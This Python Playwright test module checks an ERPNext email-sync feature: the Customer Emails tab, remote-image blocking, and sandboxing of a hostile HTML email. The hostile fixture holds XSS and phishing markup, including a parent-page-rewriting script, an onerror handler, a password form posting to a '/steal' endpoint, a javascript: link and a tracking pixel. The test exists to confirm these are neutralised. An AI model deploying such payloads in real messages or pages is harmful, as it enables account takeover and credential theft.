"""The Emails tab of a Customer, and the email viewer: newest first, source badges, direction arrows,
attachments; a hostile HTML email stays inert in its sandboxed frame and tracks nobody until asked."""

import re

import frappe
import pytest
from browserlib import expect, go, login, settle, shoot, wait_for_form
from data import days_ago, erpnext_email, message, party
from factories import deliver, make_account, new_mailbox, unique

from email_sync.sync.runner import sync_account

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def newsletter(images: str) -> str:
	return f"""<div style="font-family:Georgia, serif; max-width:560px">
<img src="{images}/logo.png" alt="Initech" width="120" height="40">
<h2 style="color:#1f4e79">Your November statement</h2>
<p>Dear customer, your statement for November is ready. The balance due is <b>$1,240.00</b>.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse">
<tr><th>Invoice</th><th>Amount</th></tr><tr><td>INV-1042</td><td>$740.00</td></tr><tr><td>INV-1043</td><td>$500.00</td></tr>
</table>
<p><a href="https://initech.example/pay">Pay online</a> &middot; <a href="mailto:billing@initech.example">billing@initech.example</a></p>
<img src="{images}/open.gif?id=42" width="1" height="1">
</div>"""


def hostile(images: str) -> str:
	return f"""<html><head>
<style>body, .navbar, .page-container, .modal {{ display: none !important; }} * {{ visibility: hidden }}</style>
<script>alert("script ran"); parent.document.body.innerHTML = "pwned";</script>
</head><body>
<p id="greeting">Hello, please see the attached invoice.</p>
<img src="x" onerror="alert('onerror ran'); parent.document.body.style.display='none'">
<form action="{images}/steal" method="post"><input name="password" placeholder="Your password">
<button type="submit">Log in</button></form>
<a id="evil" href="javascript:alert('link ran')">Click to view invoice</a>
<iframe src="{images}/frame"></iframe>
<img src="{images}/pixel.gif?u=victim" width="1" height="1">
<div onclick="alert('click ran')" style="background:url({images}/bg.png)">Regards, Mallory</div>
</body></html>"""


@pytest.fixture(scope="module")
def initech(dovecot, tracker):
	"""A Customer whose contact Pat wrote and was answered, over IMAP and from ERPNext itself, newest last."""
	customer = party("Initech", "Pat")
	user = new_mailbox(dovecot)
	account = make_account(dovecot, user, frequency="Manual only", direction="Bidirectional")
	tag = unique("#")
	images = f"{tracker.url}/{tag[1:]}"  # this module's emails' remote images, told apart by their path
	subjects = frappe._dict(
		attachment=f"Signed contract {tag}",
		reply=f"Re: Signed contract {tag}",
		newsletter=f"Your November statement {tag}",
		hostile=f"Invoice overdue {tag}",
		erpnext=f"Welcome pack {tag}",
	)
	pat = f"Pat Customer <{customer.address}>"
	deliver(dovecot, user, [
		message(pat, user.name, subjects.attachment, "Signed contract attached.", date=days_ago(4),
			attachments=[("contract.pdf", PDF, "application/pdf")]),
		message(pat, user.name, subjects.newsletter, "Your statement is ready.", html=newsletter(f"{images}/news"), date=days_ago(2)),
		message(pat, user.name, subjects.hostile, "Hello", html=hostile(f"{images}/hostile"), date=days_ago(1.5)),
	])
	deliver(dovecot, user, [message(f"Account Manager <{user.name}>", customer.address, subjects.reply,
		"Thanks Pat, countersigned copy to follow.", date=days_ago(3))], "Sent")
	counts = sync_account(account)
	assert counts["Filed"] == 4, counts
	erpnext_email(customer.customer, customer.address, subjects.erpnext, "<p>Welcome aboard, Pat!</p>", days_ago(1))
	return frappe._dict(customer=customer, account=account, subjects=subjects, tag=tag[1:])


def open_emails_tab(page, stack, customer):
	go(page, stack, f"customer/{customer}")
	wait_for_form(page, "Customer", customer)
	page.locator(".form-tabs .nav-link", has_text=re.compile(r"^\s*Emails\s*$")).click()
	rows = page.locator(".email-sync-row")
	expect(rows.first).to_be_visible()
	return rows


def test_emails_tab_lists_newest_first_with_badges_arrows_and_attachments(stack, new_page, admin, initech):
	page = new_page()
	login(page, stack, admin.email, admin.password)
	rows = open_emails_tab(page, stack, initech.customer.customer)
	s = initech.subjects
	expect(rows).to_have_count(5)
	order = [s.erpnext, s.hostile, s.newsletter, s.reply, s.attachment]
	for row, subject in zip(rows.all(), order):
		expect(row.locator(".email-sync-subject, b").first).to_have_text(subject)
	badges = [row.locator(".email-sync-source").inner_text().strip() for row in rows.all()]
	assert badges == ["ERPNext", "IMAP", "IMAP", "IMAP", "IMAP"], badges
	arrows = [row.locator(".email-sync-arrow").get_attribute("class") for row in rows.all()]
	assert [("out" if " out" in a else "in") for a in arrows] == ["out", "in", "in", "out", "in"], arrows
	with_clip = rows.filter(has=page.locator(".email-sync-attachment"))
	expect(with_clip).to_have_count(1)
	expect(with_clip).to_contain_text(s.attachment)
	expect(rows.nth(3)).to_contain_text(f"To {initech.customer.address}")
	expect(rows.nth(4)).to_contain_text("Signed contract attached.")
	expect(rows.nth(4)).to_contain_text("Pat Customer")
	assert not page.errors, page.errors
	settle(page)
	shoot(page, "customer-emails-tab")


def fetched(tracker, initech, name) -> list[str]:
	"""What the browser fetched from the remote image host for this module's `name` image."""
	return [path for path in tracker.hits if path.startswith(f"/{initech.tag}/{name}")]


def test_opened_email_blocks_remote_images_until_asked(stack, new_page, admin, initech, tracker):
	page = new_page()
	login(page, stack, admin.email, admin.password)
	rows = open_emails_tab(page, stack, initech.customer.customer)
	rows.filter(has_text=initech.subjects.newsletter).click()
	dialog = page.locator(".modal.show .modal-dialog")
	expect(dialog.locator(".modal-title")).to_have_text(initech.subjects.newsletter)
	frame = page.frame_locator(".email-sync-frame")
	expect(frame.locator("text=Your November statement")).to_be_visible()
	notice = dialog.locator(".email-sync-images")
	expect(notice).to_be_visible()
	expect(notice).to_contain_text("2 remote images are blocked")
	page.wait_for_timeout(500)
	assert fetched(tracker, initech, "news/logo") == fetched(tracker, initech, "news/open") == [], "fetched before the reader asked"
	settle(page)
	shoot(page, "email-opened-images-blocked")

	notice.locator(".show-images").click()
	expect(notice).to_be_hidden()
	page.wait_for_timeout(1000)
	expect(page.frame_locator(".email-sync-frame").locator("img[alt=Initech]")).to_be_visible()
	for _ in range(50):
		if fetched(tracker, initech, "news/logo") and fetched(tracker, initech, "news/open"):
			break
		page.wait_for_timeout(100)
	assert fetched(tracker, initech, "news/logo") and fetched(tracker, initech, "news/open"), tracker.hits
	assert not page.errors, page.errors


def test_hostile_email_stays_inert_in_its_frame(stack, new_page, admin, initech, tracker):
	page = new_page()
	dialogs = []
	page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
	login(page, stack, admin.email, admin.password)
	rows = open_emails_tab(page, stack, initech.customer.customer)
	rows.filter(has_text=initech.subjects.hostile).click()
	dialog = page.locator(".modal.show .modal-dialog")
	expect(dialog.locator(".modal-title")).to_have_text(initech.subjects.hostile)
	frame_element = page.locator(".email-sync-frame")
	frame = page.frame_locator(".email-sync-frame")
	expect(frame.locator("text=Hello, please see the attached invoice.")).to_be_visible()

	sandbox = frame_element.get_attribute("sandbox")
	assert sandbox is not None and "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox, sandbox
	# What could act is gone from the markup itself, whatever the frame would allow
	html = frame.locator("body").inner_html()
	for forbidden in ("<script", "onerror", "onclick", "<form", "javascript:", "<iframe", "<style", "display: none"):
		assert forbidden not in html.lower(), forbidden
	evil = frame.locator("#evil, a:has-text('Click to view invoice')").first
	if evil.count():
		assert not (evil.get_attribute("href") or "").lower().startswith("javascript"), evil.get_attribute("href")
		evil.click(no_wait_after=True)  # a click on what is left does nothing to the desk

	page.wait_for_timeout(800)
	assert dialogs == [], dialogs
	assert [path for path in tracker.hits if path.startswith(f"/{initech.tag}/hostile")] == [], tracker.hits
	# The desk is untouched: its navbar and page are visible, the email's style did not leak out of the frame
	expect(page.locator(".navbar")).to_be_visible()
	expect(page.locator(".page-container:visible").first).to_be_visible()
	assert page.evaluate("getComputedStyle(document.body).display") != "none"
	assert page.evaluate("document.body.innerHTML.includes('pwned')") is False
	expect(dialog).to_be_visible()
	settle(page)
	shoot(page, "hostile-email-opened")
	assert not page.errors, page.errors

	# The watchers work: the one image left is fetched once asked for, and a dialog of the desk is seen
	dialog.locator(".show-images").click()
	for _ in range(50):
		if any(path.startswith(f"/{initech.tag}/hostile/pixel.gif") for path in tracker.hits):
			break
		page.wait_for_timeout(100)
	assert [p for p in tracker.hits if p.startswith(f"/{initech.tag}/hostile")] == [f"/{initech.tag}/hostile/pixel.gif?u=victim"]
	page.evaluate("() => setTimeout(() => alert('control'))")
	page.wait_for_timeout(300)
	assert dialogs == ["control"], dialogs
